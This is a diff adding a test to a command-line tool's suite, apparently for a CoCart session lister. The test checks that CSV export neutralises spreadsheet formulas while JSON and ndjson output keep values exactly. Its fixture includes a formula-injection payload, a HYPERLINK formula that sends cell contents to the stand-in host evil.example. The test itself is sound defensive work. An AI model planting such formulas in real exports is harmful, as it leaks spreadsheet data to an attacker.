@@ -471,3 +471,36 @@ describe('delete from scripts', () => {
     expect(await keysOf()).toHaveLength(SESSIONS.length);
   });
 });
+
+describe('CSV and formulas', () => {
+  it('neutralises cells a spreadsheet would run, in CSV only: JSON and ndjson keep them exactly', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A2,"x")';
+    const s = await startTestServer([
+      { key: 'evil_1', first: evil, last: '', email: '@SUM(1+1)@x.example' },
+      { key: 'evil_2', first: '+1', last: 'Plus', email: 'ok@x.example' },
+    ]);
+    try {
+      const env = { COCART_URL: s.url, COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
+      const fields = ['--fields', 'cart_key,customers_name,customers_email'];
+      const csv = await cli(['list', '--format', 'csv', ...fields], env);
+      expect(csv.code, csv.stderr).toBe(0);
+      expect(csv.stdout).toBe(
+        `cart_key,customers_name,customers_email\r\nevil_1,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",'@SUM(1+1)@x.example\r\nevil_2,'+1 Plus,ok@x.example\r\n`,
+      );
+      const exact = [
+        { cart_key: 'evil_1', customers_name: evil, customers_email: '@SUM(1+1)@x.example' },
+        { cart_key: 'evil_2', customers_name: '+1 Plus', customers_email: 'ok@x.example' },
+      ];
+      expect(JSON.parse((await cli(['list', '--format', 'json', ...fields], env)).stdout)).toEqual(exact);
+      const nd = await cli(['list', '--format', 'ndjson', ...fields], env);
+      expect(
+        nd.stdout
+          .trimEnd()
+          .split('\n')
+          .map((l) => JSON.parse(l)),
+      ).toEqual(exact);
+    } finally {
+      await s.stop();
+    }
+  });
+});
